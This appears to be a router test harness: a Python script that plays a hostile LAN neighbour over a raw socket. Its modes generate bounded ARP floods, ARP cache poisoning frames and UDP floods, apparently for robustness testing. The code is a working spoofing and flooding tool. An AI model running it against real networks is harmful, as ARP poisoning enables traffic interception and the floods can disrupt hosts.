#!/usr/bin/env python3
"""
Hostile neighbour on a raw AF_PACKET socket, run inside a test namespace. Bounded in count and time.

  l2-flood.py arp IFACE COUNT SECONDS ROUTER_IP SUBNET/LEN
      ARP frames with random sender addresses in SUBNET and random sender MACs, cycling through
      four kinds: a request for ROUTER_IP, an unsolicited reply to ROUTER_IP, a request for an
      unknown address (not us), and a gratuitous ARP (sender = target).
  l2-flood.py poison IFACE COUNT SECONDS ROUTER_IP VICTIM_IP MAC
      ARP frames claiming VICTIM_IP is at MAC: unsolicited replies to ROUTER_IP and gratuitous
      requests, alternating.
  l2-flood.py udp IFACE COUNT SECONDS ROUTER_MAC SRC_IP SUBNET/LEN
      UDP datagrams from SRC_IP to random destinations in SUBNET, sent to ROUTER_MAC.

Prints the number of frames sent.
"""
import os
import random
import socket
import struct
import sys
import time


def mac_bytes(s):
    return bytes(int(x, 16) for x in s.split(':'))


def ip_int(s):
    return struct.unpack('!I', socket.inet_aton(s))[0]


def subnet(s):
    a, l = s.split('/')
    l = int(l)
    net = ip_int(a) & ((0xffffffff << (32 - l)) & 0xffffffff)
    size = 1 << (32 - l)
    return net, size


def rand_in(net, size):
    return struct.pack('!I', net + random.randrange(1, size - 1))


def rand_mac():
    b = bytearray(os.urandom(6))
    b[0] = (b[0] & 0xfe) | 0x02  # unicast, locally administered
    return bytes(b)


def checksum(h):
    s = sum(struct.unpack('!%dH' % (len(h) // 2), h))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    return (~s) & 0xffff


def main():
    mode, iface, count, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    own = s.getsockname()[4]
    bcast = b'\xff' * 6
    end = time.monotonic() + seconds
    sent = 0
    if mode == 'arp':
        router = socket.inet_aton(sys.argv[5])
        net, size = subnet(sys.argv[6])
        while sent < count and (sent & 1023 or time.monotonic() < end):
            kind = sent & 3
            smac = rand_mac()
            sip = rand_in(net, size)
            if kind == 0:
                op, dst, tmac, tip = 1, bcast, b'\0' * 6, router
            elif kind == 1:
                op, dst, tmac, tip = 2, bcast, b'\0' * 6, router
            elif kind == 2:
                op, dst, tmac, tip = 1, bcast, b'\0' * 6, rand_in(net, size)
            else:
                op, dst, tmac, tip = 1, bcast, b'\0' * 6, sip
            frame = dst + smac + b'\x08\x06' + struct.pack('!HHBBH', 1, 0x0800, 6, 4, op) + smac + sip + tmac + tip
            try:
                s.send(frame)
                sent += 1
            except BlockingIOError:
                time.sleep(0.001)
    elif mode == 'poison':
        router = socket.inet_aton(sys.argv[5])
        victim = socket.inet_aton(sys.argv[6])
        smac = mac_bytes(sys.argv[7])
        while sent < count and time.monotonic() < end:
            if sent & 1:
                op, tip = 1, victim  # gratuitous request
            else:
                op, tip = 2, router  # a reply nobody asked for
            frame = bcast + smac + b'\x08\x06' + struct.pack('!HHBBH', 1, 0x0800, 6, 4, op) + smac + victim + b'\0' * 6 + tip
            s.send(frame)
            sent += 1
            time.sleep(0.001)
    elif mode == 'udp':
        rmac = mac_bytes(sys.argv[5])
        src = socket.inet_aton(sys.argv[6])
        net, size = subnet(sys.argv[7])
        payload = b'\0' * 18
        while sent < count and (sent & 1023 or time.monotonic() < end):
            dst = rand_in(net, size)
            udp = struct.pack('!HHHH', 40000, 9, 8 + len(payload), 0) + payload
            ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), sent & 0xffff, 0, 64, 17, 0, src, dst)
            ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
            try:
                s.send(rmac + own + b'\x08\x00' + ip + udp)
                sent += 1
            except BlockingIOError:
                time.sleep(0.001)
    else:
        sys.exit('mode is arp or udp')
    print(sent)


if __name__ == '__main__':
    main()
